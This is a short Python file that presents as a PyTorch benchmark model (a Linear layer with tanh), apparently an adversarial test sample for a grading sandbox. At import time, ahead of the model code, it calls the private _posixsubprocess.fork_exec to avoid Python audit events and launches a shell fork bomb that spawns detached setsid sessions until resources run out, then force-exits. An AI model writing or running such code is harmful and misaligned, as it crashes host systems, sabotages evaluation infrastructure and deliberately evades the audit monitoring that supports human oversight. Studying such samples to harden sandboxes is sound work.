# forks without an audit event until nothing is left, each in a session of its own
# past: invalid/crash
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import sys
fork_exec = sys.modules["_posixsubprocess"].fork_exec
import os
def start(*words):
    read, write = os.pipe()
    words = [word.encode() for word in words]
    return fork_exec(words, [words[0]], True, (write,), None, None, -1, -1, -1, -1, -1, -1, read, write, True, True, -1, None, None, None, -1, None, True)
start("/bin/sh", "-c", "b() { setsid sh -c 'sleep 300' & b & b; }; b")
import time
time.sleep(2)
os._exit(3)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
